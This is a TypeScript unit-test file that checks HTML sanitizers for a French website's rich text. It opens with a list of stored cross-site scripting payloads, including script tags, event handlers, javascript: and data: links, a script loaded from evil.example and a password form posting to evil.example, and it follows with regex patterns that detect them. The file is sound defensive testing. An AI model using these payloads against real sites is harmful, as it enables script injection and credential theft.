import { describe, expect, it } from 'vitest';
import { sanitizeArticleHtml, sanitizeInlineHtml, sanitizeRichHtml } from './rich-text';

/** Stored XSS payloads an administrator account (or a compromised one) could save. */
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r="4"/></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">lien</a>',
  '<a href="JaVaScRiPt:alert(1)">lien</a>',
  '<a href="&#106;avascript:alert(1)">lien</a>',
  '<a href=" javascript:alert(1)">lien</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien</a>',
  '<a href="//evil.example">lien</a>',
  '<p onclick="alert(1)" style="background:url(javascript:alert(1))">texte</p>',
  '<style>body{display:none}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="password"></form>',
  '<details open ontoggle=alert(1)>',
  '<<script>alert(1)//<</script>',
];

function expectHarmless(html: string) {
  expect(html).not.toMatch(
    /<\s*(script|img|svg|iframe|style|object|embed|form|input|math|details)\b/i,
  );
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/javascript:|data:text|href="\/\//i);
  expect(html).not.toMatch(/style=/i);
}

describe.each([
  ['sanitizeInlineHtml', sanitizeInlineHtml],
  ['sanitizeRichHtml', sanitizeRichHtml],
])('%s', (_name, sanitize) => {
  it.each(payloads)('neutralizes %s', (payload) => {
    expectHarmless(sanitize(`<strong>Offre</strong> ${payload} fin`));
  });

  it('keeps simple formatting and safe links', () => {
    expect(
      sanitize(
        '<strong>-15 %</strong> <em>ce mois-ci</em> : <a href="/offrir-un-bon-cadeau">offrez</a>',
      ),
    ).toBe(
      '<strong>-15 %</strong> <em>ce mois-ci</em> : <a href="/offrir-un-bon-cadeau">offrez</a>',
    );
    expect(sanitize('<a href="mailto:contact@example.fr">écrire</a>')).toBe(
      '<a href="mailto:contact@example.fr">écrire</a>',
    );
  });

  it('makes a link opening a new tab safe for the opener', () => {
    expect(sanitize('<a href="https://example.fr" target="_blank" rel="opener">site</a>')).toBe(
      '<a href="https://example.fr" target="_blank" rel="noopener noreferrer">site</a>',
    );
    expect(sanitize('<a href="https://example.fr" target="_top">site</a>')).toBe(
      '<a href="https://example.fr">site</a>',
    );
  });

  it('returns an empty string for nothing', () => {
    expect(sanitize(null)).toBe('');
    expect(sanitize('')).toBe('');
  });
});

describe('sanitizeInlineHtml', () => {
  it('keeps the text of block elements but not the blocks, which would break the banner line', () => {
    const html = sanitizeInlineHtml('<h2>Soldes</h2> <p>du 8 au 31 janvier</p>');
    expect(html).toBe('Soldes du 8 au 31 janvier');
  });
});

describe('sanitizeRichHtml', () => {
  it('keeps the structure of a legal text and demotes a stray h1 under the page title', () => {
    const html =
      '<h1>Titre</h1><h2>1. Objet</h2><p>Texte <a href="#tarteaucitron">gérer les cookies</a></p><ul><li>un</li></ul>';
    expect(sanitizeRichHtml(html)).toBe(
      '<h2>Titre</h2><h2>1. Objet</h2><p>Texte <a href="#tarteaucitron">gérer les cookies</a></p><ul><li>un</li></ul>',
    );
  });
});

describe('sanitizeArticleHtml', () => {
  it('keeps uploaded and https images with their text alternative', () => {
    expect(
      sanitizeArticleHtml(
        '<p>Avant</p><img src="/api/content-image/91/abc.webp" alt="Salon" width="800" height="600" onerror="x()">',
      ),
    ).toBe(
      '<p>Avant</p><img src="/api/content-image/91/abc.webp" alt="Salon" width="800" height="600" />',
    );
    expect(sanitizeArticleHtml('<img src="https://example.fr/a.jpg" alt="">')).toBe(
      '<img src="https://example.fr/a.jpg" alt="" />',
    );
  });

  it('drops images from other schemes and protocol-relative addresses', () => {
    for (const src of [
      'javascript:alert(1)',
      'data:image/png;base64,AAAA',
      '//evil.example/a.png',
      'http://example.fr/a.jpg',
    ]) {
      expect(sanitizeArticleHtml(`<p>x</p><img src="${src}" alt="a">`)).toBe('<p>x</p>');
    }
  });

  it('still removes scripts and handlers', () => {
    expect(sanitizeArticleHtml('<h1>T</h1><script>alert(1)</script><p onclick="x">a</p>')).toBe(
      '<h2>T</h2><p>a</p>',
    );
  });
});
